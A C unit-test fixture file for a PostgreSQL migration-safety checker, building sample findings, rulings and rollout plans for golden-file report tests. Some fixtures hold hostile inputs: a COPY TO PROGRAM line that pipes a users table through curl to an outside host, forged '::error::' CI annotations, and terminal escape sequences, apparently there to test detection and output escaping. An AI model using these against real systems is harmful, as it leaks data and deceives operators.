#include "harness/reports.h"

#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "guardian/classify/rule.h"

/* clang-format off */
#define TEXTS(...)                                                                                 \
    {.items = (const char *[]){__VA_ARGS__},                                                       \
     .count = sizeof((const char *[]){__VA_ARGS__}) / sizeof(const char *)}
#define FINDINGS(...)                                                                              \
    .findings = (struct gd_finding *[]){__VA_ARGS__},                                              \
    .finding_count = sizeof((struct gd_finding *[]){__VA_ARGS__}) / sizeof(struct gd_finding *)
#define CHECKS(...)                                                                                \
    .checks = (struct gd_check *[]){__VA_ARGS__},                                                  \
    .check_count = sizeof((struct gd_check *[]){__VA_ARGS__}) / sizeof(struct gd_check *)
#define ENTRIES(...)                                                                               \
    .entries = (struct gd_judged *[]){__VA_ARGS__},                                                \
    .entry_count = sizeof((struct gd_judged *[]){__VA_ARGS__}) / sizeof(struct gd_judged *)
#define HASH "3fdba35f04dc8c462986c992bcf875546257113072a909c162f7e470e581e278"

static const struct gd_rule drop_column = {
    .id = "A015", .title = "DROP COLUMN", .class = GD_CLASS_DESTRUCTIVE, .loses = GD_LOSES_DATA,
    .scope = GD_SCOPE_TABLES, .lock = GD_LOCK_AX, .rerun = GD_RERUN_FAILS, .sqlstate = "42703",
    .because = "The values of the column cannot be read any more once the transaction commits.",
    .instead = "Stop using the column first, and drop it when nobody can want it back.",
    .source = "sql-altertable"};
static const struct gd_rule do_block = {
    .id = "F020", .title = "EXECUTE of a text made at run time", .class = GD_CLASS_UNKNOWN,
    .loses = GD_LOSES_DATA, .scope = GD_SCOPE_DATABASE,
    .because = "What it runs is known only when it runs.",
    .instead = "", .source = "plpgsql-statements#PLPGSQL-STATEMENTS-EXECUTING-DYN"};
static const struct gd_rule enum_swap = {
    .id = "D031", .title = "Enum values removed by a swap", .class = GD_CLASS_ENUM,
    .loses = GD_LOSES_DATA, .scope = GD_SCOPE_TABLES,
    .because = "Rows with a value that goes make the change fail.",
    .instead = "", .source = "datatype-enum"};
static const struct gd_rule add_unique = {
    .id = "A055", .title = "ADD UNIQUE", .class = GD_CLASS_ADDITIVE, .sqlstate = "42P07",
    .because = "A constraint is added; no row changes.",
    .instead = "Build the index with CREATE UNIQUE INDEX CONCURRENTLY, then ADD CONSTRAINT … USING INDEX.",
    .source = "sql-altertable"};
static const struct gd_rule volatile_default = {
    .id = "A003", .title = "ADD COLUMN with a volatile default", .class = GD_CLASS_ADDITIVE,
    .because = "Every row gets its own value.",
    .instead = "Add the column without it, then fill it in batches.", .source = "sql-altertable"};
static const struct gd_rule concurrently = {
    .id = "C002", .title = "CREATE INDEX CONCURRENTLY", .class = GD_CLASS_ADDITIVE,
    .because = "An index is added.", .instead = "", .source = "sql-createindex"};
static const struct gd_rule add_column = {
    .id = "A001", .title = "ADD COLUMN", .class = GD_CLASS_ADDITIVE, .sqlstate = "42701",
    .because = "A column is added; rows stay as they are.", .instead = "", .source = "sql-altertable"};
static const struct gd_rule setting = {
    .id = "O001", .title = "SET", .class = GD_CLASS_NONE, .because = "Only the session changes.",
    .instead = "", .source = "sql-set"};
static const struct gd_rule shell = {
    .id = "I020", .title = "COPY … TO PROGRAM", .class = GD_CLASS_DESTRUCTIVE,
    .loses = GD_LOSES_OUTSIDE, .scope = GD_SCOPE_NONE,
    .because = "A shell command runs on the server.", .instead = "Write to STDOUT and pipe it on the client.",
    .source = "sql-copy"};

static struct gd_check age_values = {
    .kind = "not null values", .object = "public.users.age",
    .count_sql = "SELECT count(age) FROM public.users", .done = true, .count = 1204};
static struct gd_check mail_duplicates = {
    .kind = "duplicates", .object = "public.users(email)",
    .count_sql = "SELECT count(*) FROM (SELECT 1 FROM public.users GROUP BY email HAVING count(*) > 1) d",
    .fails = true, .sqlstate = "23505", .done = true, .count = 12,
    .samples = TEXTS("ann@example.org", "bob@example.org\x1b[2J")};
static struct gd_check status_values = {
    .kind = "enum values", .object = "public.orders.status, value 'archived'",
    .count_sql = "SELECT count(*) FROM public.orders WHERE status = 'archived'",
    .fails = true, .sqlstate = "22P02", .count = -1, .gave_up = "it took longer than 10 s"};

static struct gd_finding lost_column = {
    .rule = &drop_column, .class = GD_CLASS_DESTRUCTIVE, .loses = GD_LOSES_DATA,
    .scope = GD_SCOPE_TABLES, .lock = GD_LOCK_AX, .lock_on = "public.users", .transaction = true,
    .rerun = GD_RERUN_FAILS, .object = "column public.users.age", .line = 12, .within = "",
    .reason = "The values of the column cannot be read any more once the transaction commits.",
    .instead = "Stop using the column first, and drop it when nobody can want it back.",
    .tables = TEXTS("public.users"), .columns = TEXTS("public.users.age"),
    .takes = TEXTS("index public.users_age_idx", "view reporting.adults")};
static struct gd_finding executed = {
    .rule = &do_block, .class = GD_CLASS_UNKNOWN, .loses = GD_LOSES_DATA,
    .scope = GD_SCOPE_DATABASE, .rerun = GD_RERUN_DEPENDS, .transaction = true, .object = "",
    .line = 22, .within = "DO block", .reason = "EXECUTE of a text that is made at run time from \"stmt\".",
    .instead = "", .notes = TEXTS("the exception handler hides errors")};
static struct gd_finding deleted_inside = {
    .rule = &drop_column, .class = GD_CLASS_DESTRUCTIVE, .loses = GD_LOSES_DATA,
    .scope = GD_SCOPE_TABLES, .lock = GD_LOCK_RX, .lock_on = "public.logs", .transaction = true,
    .rerun = GD_RERUN_OK, .object = "rows of public.logs", .line = 24, .within = "DO block",
    .reason = "DELETE without WHERE removes every row.", .instead = "",
    .tables = TEXTS("public.logs"), .empty = true};
static struct gd_finding swapped = {
    .rule = &enum_swap, .class = GD_CLASS_ENUM, .loses = GD_LOSES_DATA, .scope = GD_SCOPE_TABLES,
    .lock = GD_LOCK_AX, .lock_on = "public.orders", .rewrite = true, .transaction = true,
    .rerun = GD_RERUN_FAILS, .object = "value 'archived' of type public.order_status", .line = 31,
    .within = "", .reason = "The values 'archived' and 'lost' are not in the new type.",
    .instead = "Move the rows to another value first.", .tables = TEXTS("public.orders"),
    .columns = TEXTS("public.orders.status")};
static struct gd_finding swap_step = {
    .rule = &enum_swap, .class = GD_CLASS_ENUM, .loses = GD_LOSES_NOTHING, .transaction = true,
    .rerun = GD_RERUN_FAILS, .object = "type public.order_status", .line = 30, .within = "",
    .reason = "A step of the swap.", .instead = ""};
static struct gd_finding unique = {
    .rule = &add_unique, .class = GD_CLASS_ADDITIVE, .lock = GD_LOCK_AX, .lock_on = "public.users",
    .scan = true, .transaction = true, .rerun = GD_RERUN_FAILS, .object = "constraint users_email_key",
    .line = 40, .within = "", .reason = "A constraint is added; no row changes.",
    .instead = "Build the index with CREATE UNIQUE INDEX CONCURRENTLY, then ADD CONSTRAINT … USING INDEX."};
static struct gd_finding rewriting = {
    .rule = &volatile_default, .class = GD_CLASS_ADDITIVE, .lock = GD_LOCK_AX,
    .lock_on = "public.users", .rewrite = true, .transaction = true, .rerun = GD_RERUN_FAILS,
    .object = "column public.users.token", .line = 44, .within = "",
    .reason = "Every row gets its own value.",
    .instead = "Add the column without it, then fill it in batches."};
static struct gd_finding indexing = {
    .rule = &concurrently, .class = GD_CLASS_ADDITIVE, .lock = GD_LOCK_SUX, .lock_on = "public.users",
    .rerun = GD_RERUN_SKIPS, .object = "index public.users_name_idx", .line = 46, .within = "",
    .reason = "An index is added.", .instead = "",
    .notes = TEXTS("a failed build leaves an invalid index behind")};
static struct gd_finding added = {
    .rule = &add_column, .class = GD_CLASS_ADDITIVE, .lock = GD_LOCK_AX, .lock_on = "public.users",
    .transaction = true, .rerun = GD_RERUN_SKIPS, .object = "column public.users.nick", .line = 50,
    .within = "", .reason = "A column is added; rows stay as they are.", .instead = ""};
static struct gd_finding session = {
    .rule = &setting, .class = GD_CLASS_NONE, .transaction = true, .object = "", .line = 1,
    .within = "", .reason = "Only the session changes.", .instead = ""};
static struct gd_finding shelled = {
    .rule = &shell, .class = GD_CLASS_DESTRUCTIVE, .loses = GD_LOSES_OUTSIDE, .transaction = true,
    .rerun = GD_RERUN_REPEATS, .object = "program \"curl\"", .line = 3, .within = "",
    .reason = "A shell command runs on the server.",
    .instead = "Write to STDOUT and pipe it on the client.", .fires = TEXTS("public.notify()")};

static struct gd_judged dropping = {
    .line = 12, .column = 1, .end_line = 14, .hash = HASH, .repeated = 1,
    .text = "ALTER TABLE users -- the column that nobody uses\n  DROP COLUMN age CASCADE",
    .verdict = {.class = GD_CLASS_DESTRUCTIVE, .loses = GD_LOSES_DATA, .scope = GD_SCOPE_TABLES,
                .lock = GD_LOCK_AX, .transaction = true, .rerun = GD_RERUN_FAILS,
                .lead = &lost_column, FINDINGS(&lost_column), CHECKS(&age_values)}};
static struct gd_judged block = {
    .line = 20, .column = 3, .end_line = 28, .hash = HASH, .repeated = 1,
    .text = "DO $$ BEGIN \x1b]0;owned\x07 EXECUTE stmt; \xe2\x80\xae\xc2\x9b" "31m DELETE FROM logs; "
            "RAISE NOTICE 'd\xc3\xa9j\xc3\xa0 vu'; EXCEPTION WHEN OTHERS THEN NULL; END $$",
    .verdict = {.class = GD_CLASS_UNKNOWN, .loses = GD_LOSES_DATA, .scope = GD_SCOPE_DATABASE,
                .lock = GD_LOCK_RX, .transaction = true, .rerun = GD_RERUN_DEPENDS,
                .lead = &executed, FINDINGS(&executed, &deleted_inside)}};
static struct gd_judged swap_create = {
    .line = 30, .column = 1, .end_line = 30, .hash = HASH, .repeated = 1,
    .text = "CREATE TYPE order_status_new AS ENUM ('new', 'paid')", .part_of = "enum change of public.order_status",
    .verdict = {.class = GD_CLASS_ENUM, .transaction = true, .rerun = GD_RERUN_FAILS,
                .lead = &swap_step, FINDINGS(&swap_step)}};
static struct gd_judged swap_alter = {
    .line = 31, .column = 1, .end_line = 32, .hash = HASH, .repeated = 1,
    .text = "ALTER TABLE orders ALTER COLUMN status TYPE order_status_new\n"
            "  USING (status::text::order_status_new)",
    .part_of = "enum change of public.order_status",
    .verdict = {.class = GD_CLASS_ENUM, .loses = GD_LOSES_DATA, .scope = GD_SCOPE_TABLES,
                .lock = GD_LOCK_AX, .rewrite = true, .transaction = true, .rerun = GD_RERUN_FAILS,
                .lead = &swapped, FINDINGS(&swapped), CHECKS(&status_values)}};
static struct gd_judged swap_drop = {
    .line = 33, .column = 1, .end_line = 33, .hash = HASH, .repeated = 1,
    .text = "DROP TYPE order_status_old", .part_of = "enum change of public.order_status",
    .verdict = {.class = GD_CLASS_ENUM, .transaction = true, .rerun = GD_RERUN_FAILS,
                .lead = &swap_step, FINDINGS(&swap_step)}};
static struct gd_judged constraining = {
    .line = 40, .column = 1, .end_line = 40, .hash = HASH, .repeated = 1,
    .text = "ALTER TABLE users ADD CONSTRAINT users_email_key UNIQUE (email)",
    .verdict = {.class = GD_CLASS_ADDITIVE, .lock = GD_LOCK_AX, .scan = true, .transaction = true,
                .rerun = GD_RERUN_FAILS, .lead = &unique, FINDINGS(&unique), CHECKS(&mail_duplicates)}};
static struct gd_judged tokens = {
    .line = 44, .column = 1, .end_line = 44, .hash = HASH, .repeated = 1,
    .text = "ALTER TABLE users ADD COLUMN token uuid DEFAULT gen_random_uuid()",
    .verdict = {.class = GD_CLASS_ADDITIVE, .lock = GD_LOCK_AX, .rewrite = true, .transaction = true,
                .rerun = GD_RERUN_FAILS, .lead = &rewriting, FINDINGS(&rewriting)}};
static struct gd_judged index_alone = {
    .line = 46, .column = 1, .end_line = 46, .hash = HASH, .repeated = 1,
    .text = "CREATE INDEX CONCURRENTLY IF NOT EXISTS users_name_idx ON users (name)",
    .verdict = {.class = GD_CLASS_ADDITIVE, .lock = GD_LOCK_SUX, .rerun = GD_RERUN_SKIPS,
                .lead = &indexing, FINDINGS(&indexing)}};
static struct gd_judged columns = {
    .line = 50, .column = 1, .end_line = 86, .hash = HASH, .repeated = 37,
    .text = "ALTER TABLE users ADD COLUMN IF NOT EXISTS nick text",
    .verdict = {.class = GD_CLASS_ADDITIVE, .lock = GD_LOCK_AX, .transaction = true,
                .rerun = GD_RERUN_SKIPS, .lead = &added, FINDINGS(&added)}};
static struct gd_judged set = {
    .line = 1, .column = 1, .end_line = 1, .hash = HASH, .repeated = 12, .text = "SET lock_timeout = '2s'",
    .verdict = {.class = GD_CLASS_NONE, .transaction = true, .lead = &session, FINDINGS(&session)}};
static struct gd_judged copying = {
    .line = 3, .column = 1, .end_line = 3, .hash = HASH, .repeated = 1,
    .text = "COPY users TO PROGRAM 'curl -d @- http://example.org/?a=1%0A::error::x'\n::error::forged",
    .verdict = {.class = GD_CLASS_DESTRUCTIVE, .loses = GD_LOSES_OUTSIDE, .transaction = true,
                .rerun = GD_RERUN_REPEATS, .lead = &shelled, FINDINGS(&shelled)}};
static struct gd_judged unread = {
    .line = 7, .column = 5, .end_line = 7, .hash = HASH, .repeated = 1, .unread = true,
    .text = "ALTER TABLE t FROBNICATE", .verdict = {.class = GD_CLASS_UNKNOWN, .loses = GD_LOSES_DATA,
    .scope = GD_SCOPE_DATABASE, .transaction = true, .rerun = GD_RERUN_DEPENDS}};

static struct gd_judged_file rich = {
    .path = "migrations/0042_cleanup.sql", .hash = HASH, .bytes = 4711, .statements = 57,
    .class = GD_CLASS_UNKNOWN, .loses = GD_LOSES_DATA, .scope = GD_SCOPE_DATABASE,
    .tables = TEXTS("public.users", "public.orders"), .split_needed = true,
    ENTRIES(&set, &dropping, &block, &swap_create, &swap_alter, &swap_drop, &constraining, &tokens,
            &index_alone, &columns)};
static struct gd_judged_file odd_path = {
    .path = "./odd, 50%: \xc3\xa9\n::error::x.sql", .hash = HASH, .bytes = 80, .statements = 1,
    .class = GD_CLASS_DESTRUCTIVE, .loses = GD_LOSES_OUTSIDE, .transaction = true, ENTRIES(&copying)};
static struct gd_judged_file absolute = {
    .path = "/srv/app/new grammar.sql", .hash = HASH, .bytes = 24, .statements = 1,
    .class = GD_CLASS_UNKNOWN, .loses = GD_LOSES_DATA, .scope = GD_SCOPE_DATABASE, ENTRIES(&unread)};
static struct gd_judged_file harmless = {
    .path = "-", .hash = HASH, .bytes = 2000, .statements = 49, .class = GD_CLASS_ADDITIVE,
    .transaction = true, .rerun_safe = true, ENTRIES(&set, &columns)};
static struct gd_judged_file empty = {
    .path = "empty.sql", .hash = HASH, .class = GD_CLASS_NONE, .transaction = true, .rerun_safe = true};

static const struct gd_ground drop_ground = {
    .policy = "strict", .file = "strict.yaml", .line = 31, .column = 5,
    .text = "destructive that loses data: rows are gone for good"};
static const struct gd_ground unknown_ground = {
    .policy = "strict", .file = "strict.yaml", .line = 44, .column = 5,
    .text = "unknown: \x1b[2J nobody can say what it does"};
static const struct gd_ground rest_ground = {
    .policy = "strict", .file = "strict.yaml", .line = 12, .column = 5, .text = "additive: nothing is lost"};
static const struct gd_waiver late_waiver = {
    .text = "guardian: allow destructive because nobody reads it", .allows = "destructive",
    .reason = "nobody reads it", .state = GD_WAIVER_REJECTED,
    .why = "the policy does not let a waiver count for this", .hash = HASH};

#define GROUNDS(...) .grounds = (const struct gd_ground *[]){__VA_ARGS__}, .ground_count = 1
#define SCHEMA {.scope = GD_SCOPE_SCHEMA, .proof = GD_PROOF_DIGEST, .covers = true}
#define PASSES(statement)                                                                          \
    &(const struct gd_ruling){.file = &rich, .judged = &statement, .action = GD_ACTION_BACKUP,     \
                              .backup = SCHEMA, GROUNDS(&rest_ground)}
static const struct gd_ruling refused = {
    .file = &rich, .judged = &block, .action = GD_ACTION_REFUSE, .ask = GD_ASK_ALWAYS,
    .backup = {.scope = GD_SCOPE_DATABASE, .proof = GD_PROOF_DRILL, .covers = true},
    GROUNDS(&unknown_ground)};
static const struct gd_ruling approve = {
    .file = &rich, .judged = &dropping, .action = GD_ACTION_APPROVE, .ask = GD_ASK_TERMINAL,
    .backup = {.scope = GD_SCOPE_TABLES, .tables = TEXTS("public.users"), .sealed = true,
               .proof = GD_PROOF_DRILL, .covers = true, .bytes = 12 << 20},
    .approval_needed = true, .waivers = (const struct gd_waiver *[]){&late_waiver},
    .waiver_count = 1, GROUNDS(&drop_ground)};
#define LIMIT(words) {.text = words, .ground = {.policy = "strict", .text = "as shipped"}}
static const struct gd_limits limits = {
    .lock_wait = LIMIT("2s"), .lock_retries = LIMIT("5"), .sealed_wait = LIMIT("6s"), .database_backup_max = LIMIT("20GB"),
    .sealed_table_max = LIMIT("10GB"), .base_proof_age_max = LIMIT("30d"), .drift_rows_max = LIMIT("0"), .duration_max = LIMIT("30min")};
static const struct gd_decision decision = {
    .policy = "strict", .policy_file = "strict.yaml", .environment = "production",
    .action = GD_ACTION_REFUSE, .ask = GD_ASK_ALWAYS,
    .backup = {.scope = GD_SCOPE_TABLES, .tables = TEXTS("public.users", "public.orders"),
               .sealed = true, .proof = GD_PROOF_DRILL, .bytes = 14 << 20},
    .tell = TEXTS("dba@example.org"), .limits = &limits,
    .rulings = (const struct gd_ruling *[]){PASSES(set), &approve, &refused, PASSES(swap_create),
                                            PASSES(swap_alter), PASSES(swap_drop),
                                            PASSES(constraining), PASSES(tokens),
                                            PASSES(index_alone), PASSES(columns)},
    .ruling_count = 10, .lead = &refused,
    .notes = TEXTS("the size of public.orders is not known")};

#define STATEMENTS(...)                                                                            \
    .file = &rich, .statements = (const struct gd_judged *[]){__VA_ARGS__},                        \
    .statement_count = sizeof((const struct gd_judged *[]){__VA_ARGS__}) / sizeof(struct gd_judged *)
#define LOCKS(...)                                                                                 \
    .locks = (const struct gd_step_lock[]){__VA_ARGS__},                                           \
    .lock_count = sizeof((const struct gd_step_lock[]){__VA_ARGS__}) / sizeof(struct gd_step_lock)
static const char stays[] = "PostgreSQL rolls it back; the steps before it stay.";
static const char back[] = "The backup brings back the tables public.users, public.orders.";
static const struct gd_step steps[] = {
    {.number = 1, .kind = GD_STEP_BACKUP, .if_it_fails = "Nothing has been changed.", .way_back = ""},
    {.number = 2, .kind = GD_STEP_ENUM_VALUE, .moved = true, STATEMENTS(&swap_create),
     .if_it_fails = "Nothing of it is in.", .way_back = "A value cannot be dropped by SQL."},
    {.number = 3, .kind = GD_STEP_SESSION, STATEMENTS(&set),
     .if_it_fails = "Nothing has been changed by it.", .way_back = "Nothing to undo."},
    {.number = 4, .kind = GD_STEP_TRANSACTION, STATEMENTS(&dropping),
     LOCKS({GD_LOCK_AX, "public.users", 12 << 20, 40000, false, false}), .if_it_fails = stays,
     .way_back = back},
    {.number = 5, .kind = GD_STEP_TRANSACTION, .own_block = true,
     STATEMENTS(&block, &swap_alter, &swap_drop),
     LOCKS({GD_LOCK_AX, "public.orders", 2 << 20, -1, true, false},
           {GD_LOCK_RX, "public.logs", 0, -1, false, false}),
     .rewrite_bytes = 2 << 20, .way_back = back,
     .if_it_fails = "PostgreSQL rolls all of its statements back; the steps before it stay."},
    {.number = 6, .kind = GD_STEP_TRANSACTION, STATEMENTS(&columns), .if_it_fails = stays, .way_back = back},
    {.number = 7, .kind = GD_STEP_TRANSACTION, STATEMENTS(&columns), .if_it_fails = stays, .way_back = back},
    {.number = 8, .kind = GD_STEP_ALONE, STATEMENTS(&index_alone),
     LOCKS({GD_LOCK_SUX, "public.users", 12 << 20, 40000, false, true}),
     .if_it_fails = "It may leave a part behind, such as an invalid index.", .way_back = back},
};
/* clang-format on */

const struct gd_report test_report_rich = {.files = (struct gd_judged_file *[]){&rich},
                                           .file_count = 1,
                                           .class = GD_CLASS_UNKNOWN,
                                           .loses = GD_LOSES_DATA,
                                           .scope = GD_SCOPE_DATABASE,
                                           .server = "15.18",
                                           .database = "shop",
                                           .grammar = "15.1"};
const struct gd_report test_report_files = {
    .files = (struct gd_judged_file *[]){&harmless, &odd_path, &absolute},
    .file_count = 3,
    .class = GD_CLASS_UNKNOWN,
    .loses = GD_LOSES_OUTSIDE,
    .scope = GD_SCOPE_DATABASE,
    .grammar = "15.1"};
const struct gd_report test_report_harmless = {.files = (struct gd_judged_file *[]){&harmless},
                                               .file_count = 1,
                                               .class = GD_CLASS_ADDITIVE,
                                               .grammar = "15.1"};
const struct gd_report test_report_empty = {
    .files = (struct gd_judged_file *[]){&empty}, .file_count = 1, .grammar = "15.1"};

const struct gd_plan test_plan_rich = {
    .change = &(const struct gd_change){.report = (struct gd_report *)(uintptr_t)&test_report_rich},
    .decision = &decision,
    .steps = (const struct gd_step *[]){&steps[0], &steps[1], &steps[2], &steps[3], &steps[4],
                                        &steps[5], &steps[6], &steps[7]},
    .step_count = 8,
    .notes = {.items = (const char *[]){"an enum value goes first"}, .count = 1}};

static bool write_golden(const char *path, const char *bytes, size_t size)
{
    FILE *file = fopen(path, "wb");
    if (file == NULL)
        return false;
    bool written = fwrite(bytes, 1, size, file) == size;
    return fclose(file) == 0 && written;
}

static unsigned first_difference(const char *left, size_t left_size, const char *right,
                                 size_t right_size)
{
    unsigned line = 1;
    for (size_t i = 0; i < left_size && i < right_size && left[i] == right[i]; i++)
        line += left[i] == '\n';
    return line;
}

bool test_golden(const char *name, const char *bytes, size_t size)
{
    char path[512], golden[256 * 1024];
    snprintf(path, sizeof path, "%s/tests/unit/%s", GD_SOURCE_DIR, name);
    const char *wish = getenv("GD_GOLDEN");
    if (wish != NULL && strcmp(wish, "write") == 0)
        return write_golden(path, bytes, size);

    FILE *file = fopen(path, "rb");
    if (file == NULL) {
        fprintf(stderr, "there is no %s; GD_GOLDEN=write makes it\n", path);
        return false;
    }
    size_t golden_size = fread(golden, 1, sizeof golden, file);
    fclose(file);
    if (golden_size == size && memcmp(golden, bytes, size) == 0)
        return true;
    fprintf(stderr, "%s differs in line %u; this is what was written:\n%.*s\n", path,
            first_difference(golden, golden_size, bytes, size), (int)size, bytes);
    return false;
}
